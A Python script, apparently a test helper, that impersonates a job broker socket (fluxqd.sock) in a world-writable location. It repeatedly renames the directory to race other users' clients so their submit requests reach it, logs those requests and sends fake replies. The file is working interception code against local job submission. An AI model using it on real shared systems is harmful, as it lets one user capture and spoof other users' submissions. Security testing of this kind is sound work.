#!/usr/bin/env python3
"""thief.py DIR LOG: a user who wants to receive other users' submits.

Makes the file LOG.ready and runs while this file exists: listens on DIR/fluxqd.sock, and moves DIR away and back
as fast as possible. Each request is answered as by a broker, and adds a line to LOG."""
import os
import socket
import sys
import threading

where, log = sys.argv[1:]
os.mkdir(where, 0o755)
server = socket.socket(socket.AF_UNIX)
server.bind(where + "/fluxqd.sock")
os.chmod(where + "/fluxqd.sock", 0o666)
server.listen(64)


def serve(client):
    data = b""
    while b"\r\n\r\n" not in data:
        more = client.recv(65536)
        if not more:
            return
        data += more
    with open(log, "ab") as out:
        out.write(data.split(b"\r\n")[0] + b"\n")
    body = b'{"id":42}'
    client.sendall(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
        b"Connection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
    )
    client.close()


def accept():
    while True:
        client, _ = server.accept()
        threading.Thread(target=serve, args=(client,), daemon=True).start()


threading.Thread(target=accept, daemon=True).start()
open(log, "ab").close()
open(log + ".ready", "w").close()
while os.path.exists(log + ".ready"):
    os.rename(where, where + ".away")
    os.rename(where + ".away", where)
